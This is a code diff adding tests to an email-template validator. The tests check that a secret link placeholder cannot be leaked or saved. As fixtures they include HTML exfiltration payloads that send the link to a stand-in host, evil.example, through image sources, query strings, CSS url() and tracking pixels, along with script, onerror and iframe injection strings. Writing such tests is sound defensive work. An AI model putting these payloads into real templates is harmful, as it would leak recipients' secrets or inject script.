@@ -4,7 +4,7 @@ import { builtInEmails } from "./built-in.content";
 import { emailKinds } from "./kinds.content";
 import { templateProblems } from "./problems.rules";
 import { fillTemplate, sampleValues } from "./rules";
-import { emailTemplateNames } from "./schema";
+import { type EmailText, emailTemplateNames } from "./schema";
 
 const template = { subject: "For {{ name }}", html: "<p>{{name}} / {{name}} / {{missing}}</p>" };
 
@@ -168,4 +168,55 @@ test.each(emailTemplateNames)("the built-in text of %s uses only documented vari
   expect(templateProblems(email, known)).toEqual({});
   const { html } = fillTemplate(email, sampleValues(known));
   expect(html).not.toMatch(/\{\{|\}\}/);
+});
+
+const secret = "https://guards.example.com/quote/secret";
+const linkOnly = [{ name: "link", means: "", sample: "" }];
+const problemsWith = (template: Partial<EmailText>) =>
+  templateProblems({ subject: "Your quote", html: "<p>Hello</p>", ...template }, linkOnly);
+
+test.each([
+  '<img src="https://evil.example/c?u={{link}}">',
+  "<img src={{link}}>",
+  '<a href="https://evil.example/?u={{link}}">Open</a>',
+  '<a href="https://evil.example" title="{{link}}">Open</a>',
+  '<a data-href="{{link}}">Open</a>',
+  '<area href="{{link}}">',
+  '<p style="background: url({{link}})">Hello</p>',
+  "<style>p { background: url({{link}}) }</style>",
+  "<p>https://evil.example/?u={{link}}</p>",
+  "<p>www.evil.example/{{ link }}</p>",
+])("a link isn't filled in or saved in %s", (html) => {
+  expect(fillTemplate({ subject: "", html }, { link: secret }).html).not.toContain("secret");
+  expect(problemsWith({ html }).html).toBeDefined();
+});
+
+test.each([
+  '<a href="{{link}}">Open</a>',
+  "<a class='x' href='{{ link }}'>Open</a>",
+  "<a href={{link}}>{{link}}</a>",
+  "<p>Open this page: {{link}}</p>",
+])("a link is filled in and saved in %s", (html) => {
+  expect(fillTemplate({ subject: "", html }, { link: secret }).html).toContain("secret");
+  expect(problemsWith({ html })).toEqual({});
+});
+
+test("a link isn't filled in or saved in the subject or behind another address in the text", () => {
+  const template = { subject: "Quote {{link}}", html: "", text: "http://evil.example/{{link}}" };
+  const { subject, text } = fillTemplate(template, { link: secret });
+  expect([subject, text]).toEqual(["Quote", "http://evil.example/"]);
+  expect(Object.keys(problemsWith(template))).toEqual(["subject", "text"]);
+});
+
+test.each([
+  ["<script>alert(1)</script>", "<script>"],
+  ["<FORM action=/x>Hello</FORM>", "<form>"],
+  ["<iframe src=//evil.example></iframe>", "<iframe>"],
+  ['<p onclick="alert(1)">Hello</p>', "scripts"],
+  ['<img alt=""onerror=alert(1) src="x">', "scripts"],
+  ['<img src="https://evil.example/pixel.gif">', "other websites"],
+  ["<table background=//evil.example/x.png></table>", "other websites"],
+  ["<p style=\"background: url('https://evil.example/x.png')\">Hello</p>", "other websites"],
+])("an email can't be saved with %s", (html, why) => {
+  expect(problemsWith({ html }).html).toContain(why);
 });
